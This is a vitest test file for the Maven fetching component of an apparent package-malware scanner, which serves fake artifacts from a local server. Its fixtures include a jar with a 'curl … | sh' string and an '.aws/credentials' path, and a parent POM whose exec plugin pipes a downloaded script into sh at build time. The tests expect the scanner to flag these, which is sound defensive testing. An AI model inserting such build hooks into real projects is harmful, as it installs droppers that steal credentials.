import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BeagleError } from '../../src/core/errors.js';
import { parseMavenCoordinate } from '../../src/ecosystems/maven/coordinates.js';
import { mavenPlugin } from '../../src/ecosystems/maven/plugin.js';
import { repositoryFor } from '../../src/ecosystems/maven/repository.js';
import { classBytes } from './classgen.js';
import { analyze, loadOptions, makeZip } from './helpers.js';

const hex = (alg: string, b: Buffer) => createHash(alg).update(b).digest('hex');

/** A Maven 2 repository on 127.0.0.1 serving the real layout from an in-memory file map. */
function startRepository(
  files: Map<string, Buffer>,
  seen: Array<{ url: string; auth?: string }>,
): Promise<http.Server> {
  const server = http.createServer((req, res) => {
    seen.push({ url: req.url ?? '', auth: req.headers.authorization });
    const body = files.get(decodeURIComponent((req.url ?? '').replace(/^\/repo\//, '')));
    if (!body || !req.url?.startsWith('/repo/')) {
      res.statusCode = 404;
      res.end('not found');
      return;
    }
    res.setHeader('content-length', body.length);
    res.end(body);
  });
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

function pomXml(g: string, a: string, v: string, packaging = 'jar', extra = ''): string {
  return `<?xml version="1.0"?>\n<project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0</modelVersion><groupId>${g}</groupId><artifactId>${a}</artifactId><version>${v}</version><packaging>${packaging}</packaging>${extra}</project>\n`;
}

/** Publishes one version with its checksum files, like Maven Central does. */
function publish(
  files: Map<string, Buffer>,
  g: string,
  a: string,
  v: string,
  jar: Buffer | undefined,
  opts: { packaging?: string; pomExtra?: string; checksums?: string[]; corruptJarSha?: boolean } = {},
) {
  const dir = `${g.replace(/\./g, '/')}/${a}/${v}/`;
  const pom = Buffer.from(pomXml(g, a, v, opts.packaging, opts.pomExtra));
  const put = (name: string, data: Buffer, corrupt = false) => {
    files.set(dir + name, data);
    for (const alg of opts.checksums ?? ['sha1', 'sha256']) {
      const digest = corrupt ? hex(alg, Buffer.from('something else')) : hex(alg, data);
      files.set(`${dir}${name}.${alg}`, Buffer.from(alg === 'sha1' ? `${digest}  ${name}\n` : digest));
    }
  };
  put(`${a}-${v}.pom`, pom);
  if (jar) put(`${a}-${v}.jar`, jar, opts.corruptJarSha);
}

function metadata(g: string, a: string, versions: string[]): Buffer {
  return Buffer.from(
    `<metadata><groupId>${g}</groupId><artifactId>${a}</artifactId><versioning><latest>${versions.at(-1)}</latest><release>${versions.at(-1)}</release><versions>${versions.map((v) => `<version>${v}</version>`).join('')}</versions><lastUpdated>20261101120000</lastUpdated></versioning></metadata>`,
  );
}

const evilJar = makeZip([
  ['META-INF/MANIFEST.MF', 'Manifest-Version: 1.0\r\n\r\n'],
  [
    'org/demo/Util.class',
    classBytes('org/demo/Util', ['run'], ['curl -s http://192.0.2.1/a.sh | sh', '.aws/credentials']),
  ],
]);
const cleanJar = makeZip([['org/demo/Util.class', classBytes('org/demo/Util', ['run'])]]);

describe('Maven repository client (local repository on 127.0.0.1)', () => {
  const files = new Map<string, Buffer>();
  const seen: Array<{ url: string; auth?: string }> = [];
  let server: http.Server;
  let base: string;
  let home: string;

  beforeAll(async () => {
    publish(files, 'org.demo', 'demo-lib', '1.0.0', cleanJar);
    publish(files, 'org.demo', 'demo-lib', '1.1.0', evilJar, { checksums: ['sha1', 'sha256', 'sha512'] });
    files.set('org/demo/demo-lib/maven-metadata.xml', metadata('org.demo', 'demo-lib', ['1.0.0', '1.1.0']));
    publish(files, 'org.demo', 'tampered', '2.0', cleanJar, { corruptJarSha: true });
    publish(files, 'org.demo', 'nosums', '1.0', cleanJar, { checksums: [] });
    publish(files, 'org.demo', 'built', '1.0', cleanJar, {
      pomExtra:
        '<build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><executions><execution><phase>test</phase><goals><goal>exec</goal></goals><configuration><executable>make</executable></configuration></execution></executions></plugin></plugins></build>',
    });
    publish(files, 'org.demo', 'parent', '3', undefined, {
      packaging: 'pom',
      pomExtra:
        '<build><plugins><plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId><executions><execution><phase>validate</phase><goals><goal>exec</goal></goals><configuration><executable>sh</executable><arguments><argument>-c</argument><argument>curl -s http://192.0.2.1/p | sh</argument></arguments></configuration></execution></executions></plugin></plugins></build>',
    });
    server = await startRepository(files, seen);
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/repo/`;
    home = mkdtempSync(path.join(os.tmpdir(), 'beagle-m2-'));
  });
  afterAll(() => {
    server?.close();
    rmSync(home, { recursive: true, force: true });
  });

  it('downloads jar + pom of an exact version, verifies checksums and analyses the bytecode', async () => {
    const artifact = await mavenPlugin.fetch('org.demo:demo-lib:1.1.0', loadOptions({}, base));
    expect(artifact.name).toBe('org.demo:demo-lib');
    expect(artifact.version).toBe('1.1.0');
    expect(artifact.source.integrity?.verified).toBe(true);
    expect(artifact.source.registry?.checksum).toBe('sha512');
    expect(artifact.source.location).toBe(`${base}org/demo/demo-lib/1.1.0/demo-lib-1.1.0.jar`);
    expect(artifact.files.map((f) => f.path)).toContain('demo-lib-1.1.0.pom');
    expect(artifact.readFindings).toHaveLength(0);
    const r = await analyze(artifact);
    expect(r.rule('NET-001').length + r.rule('JAVA-006').length).toBeGreaterThan(0);
  });

  it('resolves the latest release from maven-metadata.xml when no version is given', async () => {
    const artifact = await mavenPlugin.fetch('org.demo:demo-lib', loadOptions({}, base));
    expect(artifact.version).toBe('1.1.0');
    expect(artifact.source.registry?.versionCount).toBe(2);
  });

  it('reports a checksum mismatch as INT-001 high', async () => {
    const artifact = await mavenPlugin.fetch('org.demo:tampered:2.0', loadOptions({}, base));
    expect(artifact.source.integrity?.verified).toBe(false);
    const f = artifact.readFindings.find((x) => x.ruleId === 'INT-001');
    expect(f?.severity).toBe('high');
    expect(f?.message).toContain('does not match');
  });

  it('reports missing checksum files as INT-001 medium', async () => {
    const artifact = await mavenPlugin.fetch('org.demo:nosums:1.0', loadOptions({}, base));
    expect(artifact.readFindings.filter((x) => x.ruleId === 'INT-001').map((x) => x.severity)).toEqual([
      'medium',
      'medium',
    ]);
  });

  it('reads a packaging=pom parent whose inherited build runs curl | sh', async () => {
    const artifact = await mavenPlugin.fetch('org.demo:parent:3', loadOptions({}, base));
    expect(artifact.files.map((f) => f.path)).toEqual(['parent-3.pom']);
    const r = await analyze(artifact);
    const [f] = r.rule('JAVA-016');
    expect(f?.context).toBe('install');
    expect(f?.category).toBe('dropper');
    expect(r.verdict.verdict).toBe('malicious');
  });

  it("does not treat a jar's repository POM build section as running for consumers", async () => {
    const artifact = await mavenPlugin.fetch('org.demo:built:1.0', loadOptions({}, base));
    const pkg = mavenPlugin.packageContext(artifact);
    expect([...pkg.entryPoints.keys()].some((p) => p.endsWith('.pom'))).toBe(false);
    const r = await analyze(artifact);
    expect(r.rule('JAVA-016')[0]).toMatchObject({ severity: 'low', context: 'unknown' });
    expect(r.verdict.verdict).toBe('clean');
  });

  it('fails with not-found naming the target for unknown artifacts and versions', async () => {
    await expect(mavenPlugin.fetch('org.demo:nope', loadOptions({}, base))).rejects.toMatchObject({
      code: 'not-found',
      message: expect.stringContaining('maven:org.demo:nope'),
    });
    await expect(mavenPlugin.fetch('org.demo:demo-lib:9.9', loadOptions({}, base))).rejects.toMatchObject({
      code: 'not-found',
    });
  });

  it('rejects malformed coordinates with invalid-target', () => {
    expect(() => parseMavenCoordinate('just-a-name')).toThrow(BeagleError);
    expect(() => parseMavenCoordinate('g:a:../../etc')).toThrow(/invalid version/);
    expect(parseMavenCoordinate('g.x:a:war:1.0')).toMatchObject({ extension: 'war', version: '1.0' });
    expect(parseMavenCoordinate('g.x:a:jar:sources:1.0')).toMatchObject({ classifier: 'sources' });
  });

  it('uses the settings.xml mirror of central with its server credentials', async () => {
    const settings = path.join(home, 'settings.xml');
    writeFileSync(
      settings,
      `<settings><mirrors><mirror><id>corp</id><mirrorOf>*</mirrorOf><url>${base}</url></mirror></mirrors><servers><server><id>corp</id><username>ci</username><password>\${env.REPO_PASS}</password></server></servers></settings>`,
    );
    const env = { BEAGLE_MAVEN_SETTINGS: settings, REPO_PASS: 's3cret' };
    expect(repositoryFor({ env }).origin).toBe('settings.xml mirror "corp"');
    seen.length = 0;
    const artifact = await mavenPlugin.fetch('org.demo:demo-lib:1.0.0', loadOptions(env));
    expect(artifact.source.location.startsWith(base)).toBe(true);
    expect(seen[0]?.auth).toBe(`Basic ${Buffer.from('ci:s3cret').toString('base64')}`);
  });

  it('honours ~/.m2/settings.xml under HOME and mirrorOf exclusions', () => {
    const m2 = path.join(home, '.m2');
    mkdirSync(m2, { recursive: true });
    writeFileSync(
      path.join(m2, 'settings.xml'),
      `<settings><mirrors><mirror><id>only-snap</id><mirrorOf>*,!central</mirrorOf><url>${base}</url></mirror></mirrors></settings>`,
    );
    expect(repositoryFor({ env: { HOME: home } }).url).toBe('https://repo.maven.apache.org/maven2/');
    writeFileSync(
      path.join(m2, 'settings.xml'),
      `<settings><mirrors><mirror><id>all</id><mirrorOf>external:*</mirrorOf><url>${base}</url></mirror></mirrors></settings>`,
    );
    expect(repositoryFor({ env: { HOME: home } }).url).toBe(base);
  });
});
